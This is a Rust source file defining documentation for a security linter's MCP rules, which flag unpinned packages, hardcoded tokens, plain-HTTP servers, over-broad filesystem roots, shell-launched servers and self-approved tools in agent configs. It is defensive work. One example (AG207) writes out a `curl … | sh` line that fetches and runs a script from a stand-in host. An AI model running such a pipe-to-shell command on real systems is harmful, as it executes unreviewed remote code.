//! Rule metadata (mcp): codes, names, severities and documentation. No checks here: the
//! registry is a leaf every layer may read.

use super::{Confidence, Docs, Family, Rule, Severity};

pub static MCP_UNPINNED_NPX: Rule = Rule {
    code: "AG201",
    name: "mcp-unpinned-package",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "An MCP server runs a package or image without an exact version",
    docs: Docs {
        what: "Finds MCP servers launched through a package runner whose package has no exact version: npm runners \
               — `npx` (usually with `-y`), `bunx`, `pnpm dlx`, `yarn dlx`, `npm exec` — with `pkg`, `pkg@latest` or \
               `pkg@^1.2`; Python runners — `uvx`, `uv tool run`, `pipx run` — without `pkg==1.2.3` (or `pkg@1.2.3`); \
               and `docker run` images without a tag or digest, or tagged `latest`. Checked in every MCP file: `.mcp.json`, `.cursor/mcp.json`, `.vscode/mcp.json`, \
               `.gemini/settings.json`, `.codex/config.toml`, `.amazonq/mcp.json`, `.roo/mcp.json`, \
               `.junie/mcp/mcp.json`, `.qwen/settings.json` and `.zed/settings.json`. Local paths \
               (`./server`) and git sources are not registry packages and are not reported.",
        why: "`npx -y pkg` downloads and runs whatever version of `pkg` is newest at that moment, with the \
              developer's credentials and any tokens in the server's `env`. One compromised or hijacked \
              release (a \"rug pull\") runs on every machine at the next agent start, with no review.",
        example: "```json\n{\n  \"mcpServers\": {\n    \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-filesystem\", \".\"] }\n  }\n}\n```",
        fix: "Pin an exact version: `\"@modelcontextprotocol/server-filesystem@2025.8.21\"`, and update it \
              deliberately (Renovate and Dependabot can bump pinned versions in these files).",
        references: &[
            "https://code.claude.com/docs/en/mcp",
            "https://docs.npmjs.com/cli/commands/npx",
        ],
    },
};

pub static MCP_LITERAL_CREDENTIAL: Rule = Rule {
    code: "AG202",
    name: "mcp-literal-credential",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "An MCP server carries a literal credential instead of a variable reference",
    docs: Docs {
        what: "Finds credentials written into MCP server definitions: `env` entries whose name says credential \
               (`*TOKEN*`, `*SECRET*`, `*PASSWORD*`, `*API_KEY*`, `*ACCESS_KEY*`, `*AUTH*`, `*CREDENTIAL*`, `*_PAT`, \
               `*DSN*`) with a literal value, `Authorization`/`*-Key`/`*-Token` headers with a literal token, \
               `--api-key=…`/`--token …`/`--password …` arguments, and URLs with a password or a token in the query. \
               A reference in the client's own syntax is fine: `${VAR}` (Claude Code), `${env:VAR}` / `${input:id}` \
               (Cursor, VS Code), `$VAR` (Gemini CLI); Codex reads values literally, so it must use `env_vars` or \
               `bearer_token_env_var`. Any literal is reported, whether or not a secrets-pack rule knows its format \
               (a token of an unusual layout is still a token); placeholders judged on the whole value (`<your-token>`, \
               `xxxx`, `changeme`, repeated or sequential values), values under six characters, numbers under eight \
               digits and values with spaces are not. The value is never printed: reports show the key only and the \
               snippet is masked.",
        why: "Agent configuration is committed, copied into other repositories and pasted into issues. A token \
              there is a leaked token, usually with broad scopes, and `claude mcp add --env` writes exactly this.",
        example: "```json\n{ \"mcpServers\": { \"github\": { \"command\": \"github-mcp\", \"env\": { \"GITHUB_TOKEN\": \"ghp_…\" } } } }\n```",
        fix: "Rotate the credential, then reference it: `\"GITHUB_TOKEN\": \"${GITHUB_TOKEN}\"` in `.mcp.json`, \
              `\"${env:GITHUB_TOKEN}\"` in Cursor and VS Code (or an `inputs` prompt with `password: true`), \
              `env_vars = [\"GITHUB_TOKEN\"]` in Codex.",
        references: &[
            "https://code.claude.com/docs/en/mcp",
            "https://code.visualstudio.com/docs/copilot/customization/mcp-servers",
        ],
    },
};

pub static MCP_WRONG_INTERPOLATION: Rule = Rule {
    code: "AG203",
    name: "mcp-wrong-interpolation",
    family: Family::Mcp,
    severity: Severity::Warning,
    confidence: Confidence::Exact,
    summary: "A variable reference uses another client's syntax and stays literal",
    docs: Docs {
        what: "Checks every string of an MCP server (command, args, env, headers, url) for references the client \
               does not expand: `$VAR` or `${env:VAR}` in Claude Code's `.mcp.json` (it expands `${VAR}` and \
               `${VAR:-default}`), `${VAR}` in Cursor or VS Code (they need `${env:VAR}`), `${env:VAR}` in Gemini CLI \
               (it expands `$VAR` and `${VAR}`), any `$…` in Codex's config.toml (no interpolation), and `${input:id}` \
               without a matching entry in VS Code's `inputs`.",
        why: "The unexpanded text is sent as is: the server gets the literal string `${GITHUB_TOKEN}` as its token and \
              fails, or a path argument points nowhere — and people \"fix\" it by pasting the real secret.",
        example: "```json\n{ \"mcpServers\": { \"gh\": { \"url\": \"https://api.example.com/mcp\", \"headers\": { \"Authorization\": \"Bearer ${env:GH_TOKEN}\" } } } }\n```\nin `.mcp.json` (Claude Code wants `${GH_TOKEN}`).",
        fix: "Use the client's syntax (the message names it), or for Codex move the value to `env_vars` / \
              `bearer_token_env_var`.",
        references: &[
            "https://code.claude.com/docs/en/mcp",
            "https://code.visualstudio.com/docs/reference/variables-reference",
        ],
    },
};

pub static MCP_INSECURE_HTTP: Rule = Rule {
    code: "AG204",
    name: "mcp-insecure-http",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "A remote MCP server is reached over plain HTTP",
    docs: Docs {
        what: "Finds MCP server URLs with `http://` to a host that is not loopback (`localhost`, `127.0.0.0/8`, `::1`).",
        why: "Tool calls, results and auth headers travel in clear text; anyone on the path can read them or inject \
              tool results that steer the agent.",
        example: "```json\n{ \"mcpServers\": { \"docs\": { \"type\": \"http\", \"url\": \"http://mcp.example.com/mcp\" } } }\n```",
        fix: "Use `https://`.",
        references: &[
            "https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices",
        ],
    },
};

pub static MCP_FILESYSTEM_ROOT: Rule = Rule {
    code: "AG205",
    name: "mcp-filesystem-root",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "A filesystem MCP server is rooted at /, home, or outside the repository",
    docs: Docs {
        what: "Finds filesystem servers (`@modelcontextprotocol/server-filesystem` and other packages named \
               `*filesystem*`) whose allowed directories include `/`, `~`, `$HOME`, `${userHome}`, a home directory, a \
               drive root or a path that climbs out of the repository.",
        why: "The server hands the agent read and write access to everything below its roots — SSH keys, cloud \
              credentials, other projects — without the agent's own permission checks.",
        example: "```json\n{ \"mcpServers\": { \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-filesystem@2025.8.21\", \"~\"] } } }\n```",
        fix: "Root the server at the project (`.` or `${workspaceFolder}`) or a specific data directory.",
        references: &["https://github.com/modelcontextprotocol/servers/tree/main/src/filesystem"],
    },
};

pub static MCP_DATABASE_WRITE: Rule = Rule {
    code: "AG206",
    name: "mcp-database-write",
    family: Family::Mcp,
    severity: Severity::Warning,
    confidence: Confidence::Heuristic,
    summary: "A database MCP server can write, or points at production",
    docs: Docs {
        what: "Recognises database servers by package, command or name (PostgreSQL, MySQL/MariaDB, MongoDB, Redis, \
               SQL Server, ClickHouse, Snowflake, BigQuery, Supabase, Neon, PlanetScale, DBHub) and reports those \
               without a read-only switch (`--read-only`, `--readonly`, `READ_ONLY=true`, `--access-mode=restricted`, \
               …), and those whose connection string or host looks like production (`prod`, `production`, `live`).",
        why: "An agent with write access to a database can drop or rewrite data on a misunderstanding or an injected \
              instruction; against production that is an incident.",
        example: "```json\n{ \"mcpServers\": { \"db\": { \"command\": \"npx\", \"args\": [\"-y\", \"@bytebase/dbhub@1.2.3\", \"--dsn\", \"${PROD_DB_DSN}\"] } } }\n```",
        fix: "Enable the server's read-only mode and point it at a development or replica database.",
        references: &[],
    },
};

pub static MCP_SHELL_COMMAND: Rule = Rule {
    code: "AG207",
    name: "mcp-shell-command",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "An MCP server is started through a shell command line",
    docs: Docs {
        what: "Finds stdio servers whose command is a shell run with a script string (`sh -c …`, `bash -c …`, \
               `cmd /c …`, `powershell -Command …`), and `command` values that contain pipes, `&&`, `;`, `$( )` or \
               backticks.",
        why: "A shell line can do anything before the server starts — download and run a script, read secrets — \
              and reviewers tend to skim it as \"the server command\". The MCP specification asks clients to highlight \
              exactly these patterns.",
        example: "```json\n{ \"mcpServers\": { \"x\": { \"command\": \"sh\", \"args\": [\"-c\", \"curl -s https://x.example | sh && x-server\"] } } }\n```",
        fix: "Launch the server binary directly with `command` and `args`; put setup in a committed, reviewed script.",
        references: &[
            "https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices",
        ],
    },
};

pub static MCP_SERVER_TRUSTED: Rule = Rule {
    code: "AG208",
    name: "mcp-server-trusted",
    family: Family::Mcp,
    severity: Severity::Error,
    confidence: Confidence::Exact,
    summary: "A repository approves MCP servers or their tool calls for everyone",
    docs: Docs {
        what: "Finds Gemini CLI / Qwen Code servers with `\"trust\": true` (every tool call of the server runs without \
               confirmation) and `\"enableAllProjectMcpServers\": true` in committed Claude Code settings (every \
               server in `.mcp.json` is approved without asking).",
        why: "Approval is the developer's check on what a server may do. A repository that approves itself turns a \
              malicious or compromised server entry into silent execution.",
        example: "```json\n{ \"mcpServers\": { \"gh\": { \"httpUrl\": \"https://api.example.com/mcp\", \"trust\": true } } }\n```",
        fix: "Remove the setting; let each developer approve servers, or use `includeTools`/`enabledMcpjsonServers` for a \
              reviewed, minimal set.",
        references: &[
            "https://google-gemini.github.io/gemini-cli/docs/tools/mcp-server.html",
            "https://code.claude.com/docs/en/settings",
        ],
    },
};

pub static MCP_AUTO_APPROVED_TOOLS: Rule = Rule {
    code: "AG209",
    name: "mcp-auto-approved-tools",
    family: Family::Mcp,
    severity: Severity::Warning,
    confidence: Confidence::Exact,
    summary: "MCP tools or servers are pre-approved in a shared file",
    docs: Docs {
        what: "Finds Cline `autoApprove` and Roo Code `alwaysAllow` lists on MCP servers, and `enabledMcpjsonServers` in \
               the shared `.claude/settings.json`.",
        why: "Pre-approved tools run without a prompt. That can be right for read-only tools, but it should be a \
              reviewed, per-tool decision, not a list that grows silently.",
        example: "```json\n{ \"mcpServers\": { \"gh\": { \"command\": \"github-mcp\", \"autoApprove\": [\"create_issue\", \"merge_pull_request\"] } } }\n```",
        fix: "Keep only read-only tools in the list, or move approvals to personal settings.",
        references: &[],
    },
};

pub static MCP_SERVER_CONFLICT: Rule = Rule {
    code: "AG210",
    name: "mcp-server-conflict",
    family: Family::Mcp,
    severity: Severity::Warning,
    confidence: Confidence::Exact,
    summary: "The same MCP server name is configured differently in two files",
    docs: Docs {
        what: "Compares MCP servers across every agent's files in the repository (`.mcp.json`, `.cursor/mcp.json`, \
               `.vscode/mcp.json`, `.gemini/settings.json`, `.codex/config.toml`, …) and reports a server name whose \
               command, arguments or URL differ between files.",
        why: "Teams that use several agents copy server entries between files, then update one. Developers on \
              different agents end up running different versions — one of them unpinned or pointing elsewhere.",
        example: "`.mcp.json` runs `@modelcontextprotocol/server-github@2025.4.8` while `.cursor/mcp.json` runs \
                  `@modelcontextprotocol/server-github@2025.1.1`.",
        fix: "Make the entries identical (same package, version and arguments), or give different servers different names.",
        references: &[],
    },
};
